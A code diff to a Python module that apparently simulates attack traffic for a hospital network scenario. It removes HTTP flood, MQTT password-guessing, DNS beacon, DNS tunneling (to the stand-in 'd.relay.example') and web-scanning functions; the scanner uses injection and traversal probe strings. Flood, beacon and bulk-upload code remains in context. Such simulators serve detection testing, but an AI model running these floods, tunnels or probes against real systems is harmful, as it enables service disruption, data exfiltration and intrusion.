@@ -12,7 +12,7 @@ from typing import TYPE_CHECKING
 
 from .attacks import MAX_PACKETS
 from .clients import fetch
-from .context import ask, question
+from .context import question
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -36,18 +36,6 @@ def _spread(ctx: Context, count: int, threads: int, rate: float, one: Callable[[
         thread.start()
     for thread in running:
         thread.join()
-
-
-def http_flood(
-    ctx: Context, targets: list[str], port: int = 80, count: int = 4000, threads: int = 16, rate: float = 200
-) -> None:
-    """GETs over full connections, one request each."""
-    for target in targets:
-
-        def one(_: int, target: str = target) -> None:
-            fetch(ctx, target, port, [f"/app/{ctx.rng.randrange(9)}"])
-
-        _spread(ctx, count, threads, rate, one)
 
 
 def connect_flood(
@@ -74,11 +62,6 @@ def _mqtt_connect(ctx: Context, target: str, password: bytes) -> None:
                 s.recv(4)
             except OSError:
                 pass
-
-
-def mqtt_guess(ctx: Context, targets: list[str], tries: int = 120, threads: int = 2, rate: float = 4) -> None:
-    """MQTT CONNECTs with one wrong password after another."""
-    _spread(ctx, tries, threads, rate, lambda n: _mqtt_connect(ctx, targets[0], f"guess{n}".encode()))
 
 
 def mqtt_flood(ctx: Context, targets: list[str], count: int = 4000, threads: int = 16, rate: float = 150) -> None:
@@ -122,25 +105,6 @@ def beacon(
             return
 
 
-def dns_beacon(ctx: Context, targets: list[str], period: float = 6, jitter: float = 0.3, count: int = 80) -> None:
-    """TXT questions with a short hexadecimal label at a steady beat; some are answered at length."""
-    for _ in range(count):
-        name = "txt.big.example" if ctx.rng.random() < 0.2 else f"{ctx.rng.randrange(16**8):x}.t.relay.example"
-        ask(targets[0], name, 16, ctx.rng)
-        if not ctx.pause(period, jitter):
-            return
-
-
-def dns_tunnel(ctx: Context, targets: list[str], count: int = 1500, rate: float = 20) -> None:
-    """Data cut into long labels and asked of the hospital's resolver."""
-
-    def one(_: int) -> None:
-        labels = ".".join(f"{ctx.rng.randrange(16**n):0{n}x}" for n in (60, 60, ctx.rng.randint(10, 50)))
-        ask(targets[0], f"{labels}.d.relay.example", ctx.rng.choice([1, 16, 16]), ctx.rng)
-
-    _spread(ctx, count, 2, rate, one)
-
-
 def upload(ctx: Context, targets: list[str], port: int = 443, megabytes: float = 8, pieces: int = 1) -> None:
     """Bulk data out to an address on the internet, in one or many connections."""
     import http.client
@@ -173,16 +137,3 @@ _WORDS = (
     "server-status",
 )
 _ENDS = ("", "/", ".php", ".bak", ".asp", "/index.php", ".cgi", ".old", "~", ".txt")
-
-
-def web_scan(ctx: Context, targets: list[str], port: int = 80, count: int = 600, per_connection: int = 10) -> None:
-    """Ask for pages scanners ask for; nearly all are 404. Some carry odd parameters."""
-    for target in targets:
-        for _ in range(count // per_connection):
-            paths = []
-            for _ in range(per_connection):
-                path = "/" + ctx.rng.choice(_WORDS) + str(ctx.rng.randrange(40)) + ctx.rng.choice(_ENDS)
-                paths.append(path + ctx.rng.choice(["", "", "?id=1%27", "?file=..%2f..%2fx", "?q=%3Cb%3E"]))
-            fetch(ctx, target, port, paths, {"User-Agent": "scanner/1.0"})
-            if not ctx.pause(0.2, 0.8):
-                return
